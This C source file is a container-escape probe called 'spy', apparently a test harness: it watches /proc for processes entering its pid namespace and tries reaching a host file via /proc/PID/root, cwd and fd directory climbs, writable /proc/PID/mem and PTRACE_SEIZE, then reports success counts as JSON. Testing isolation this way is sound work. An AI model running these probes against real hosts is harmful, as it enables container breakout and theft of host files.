/* spy: a hostile process in a container.  It watches /proc for processes that come into its pid namespace and tries
 * to get at the host through them.  Build: gcc -O1 -static -o spy spy.c
 *
 * spy SECRET SECONDS: for SECONDS, on every other process, try
 *   root   open /proc/PID/root/SECRET          cwd    open /proc/PID/cwd/ and climb to SECRET
 *   fd     open any /proc/PID/fd/N that is a folder and climb from it to SECRET
 *   mem    open /proc/PID/mem for writing      trace  PTRACE_SEIZE
 * SECRET is the absolute path of a file of the host.  At the end it prints, as JSON, how many processes it saw and how
 * often each way succeeded.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long seen, root_won, cwd_won, fd_won, mem_won, trace_won, looked;
static const char *secret;

static int readable(const char *path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    char c;
    int won = read(fd, &c, 1) == 1;
    close(fd);
    return won;
}

static void attack(int pid) {
    char path[4096], up[] = "../../../../../../../../../../../../../../../..";
    snprintf(path, sizeof path, "/proc/%d/root%s", pid, secret);
    root_won += readable(path);
    snprintf(path, sizeof path, "/proc/%d/cwd/%s%s", pid, up, secret);
    cwd_won += readable(path);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (d) {
        for (struct dirent *e; (e = readdir(d));) {
            struct stat s;
            if (*e->d_name == '.') continue;
            looked++;
            snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
            if (stat(path, &s) || !S_ISDIR(s.st_mode)) continue;
            snprintf(path, sizeof path, "/proc/%d/fd/%s/%s%s", pid, e->d_name, up, secret);
            fd_won += readable(path);
        }
        closedir(d);
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) { mem_won++; close(fd); }
    pid_t child = fork();  /* a tracer that ends lets go of what it traces */
    if (child == 0) _exit(ptrace(PTRACE_SEIZE, pid, 0, 0) == 0);
    int status = 0;
    waitpid(child, &status, 0);
    trace_won += WEXITSTATUS(status);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 3) return 120;
    secret = argv[1];
    double end = now() + atof(argv[2]);
    int self = getpid();
    while (now() < end) {
        DIR *d = opendir("/proc");
        for (struct dirent *e; d && (e = readdir(d));) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self) continue;
            seen++;
            attack(pid);
        }
        if (d) closedir(d);
    }
    printf("{\"seen\":%ld,\"looked\":%ld,\"root\":%ld,\"cwd\":%ld,\"fd\":%ld,\"mem\":%ld,\"trace\":%ld}\n", seen, looked,
           root_won, cwd_won, fd_won, mem_won, trace_won);
    return 0;
}
